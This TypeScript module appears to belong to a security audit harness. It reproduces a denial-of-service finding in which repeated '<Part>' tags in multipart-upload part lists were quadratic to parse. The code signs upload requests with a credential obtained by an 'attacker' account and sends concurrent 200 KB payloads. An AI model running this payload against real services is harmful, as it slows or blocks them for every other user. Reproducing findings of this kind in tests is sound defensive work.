/** [finding R2] Lists of parts that were quadratic to read: 200 KB of `<Part>` were 9.3 s for everybody. */
import { sha1Headers } from '../../uploads/signing.ts';
import { call, type Target } from './target.ts';

export async function partLists(target: Target, { bytes = 200_000, times = 20 } = {}): Promise<void> {
  const { attacker } = target;
  const { knowledge_base_id } = await call(target, 'wiki/v1/create_knowledge_base', { name: 'x' }, attacker);
  const media = await call(target, 'wiki/v1/create_media', { knowledge_base_id, file_name: 'a.txt', file_ext: 'txt', file_size: 1000, content_type: 'text/plain' }, attacker);
  const credential = media.cos_credential ?? media;
  const key = credential.cos_key as string;
  const send = async (query: Record<string, string>, body?: string): Promise<string> => {
    const headers = sha1Headers(credential, { method: 'POST', path: `/${key}`, query });
    const answer = await fetch(`${target.url}/${key}?${new URLSearchParams(query).toString()}`, { method: 'POST', headers, body });
    return answer.text();
  };
  const uploadId = /<UploadId>([^<]+)</.exec(await send({ uploads: '' }))?.[1] ?? 'none';
  const body = '<Part>'.repeat(Math.floor(bytes / 6));
  for (let i = 0; i < times; i += 4) {
    await Promise.all([0, 1, 2, 3].map((n) => send({ uploadId: n % 2 ? uploadId : 'unknown' }, body).catch(() => undefined)));
  }
}
